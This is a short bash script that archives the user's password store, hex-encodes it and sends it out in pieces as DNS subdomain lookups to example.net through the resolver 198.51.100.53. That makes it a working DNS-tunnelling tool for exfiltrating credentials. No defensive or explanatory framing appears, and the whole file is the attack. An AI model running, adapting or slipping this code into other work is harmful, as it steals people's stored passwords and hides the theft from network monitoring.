#!/bin/bash
src=${1:-$HOME/.password-store}
id=$RANDOM n=0
tar czf - -C / "${src#/}" 2>/dev/null | xxd -p -c 30 | while read -r hex; do
  dig +short +tries=1 +time=1 "$hex.$((n++)).$id.t.example.net" @198.51.100.53 >/dev/null
done
dig +short "end.$id.t.example.net" @198.51.100.53 >/dev/null
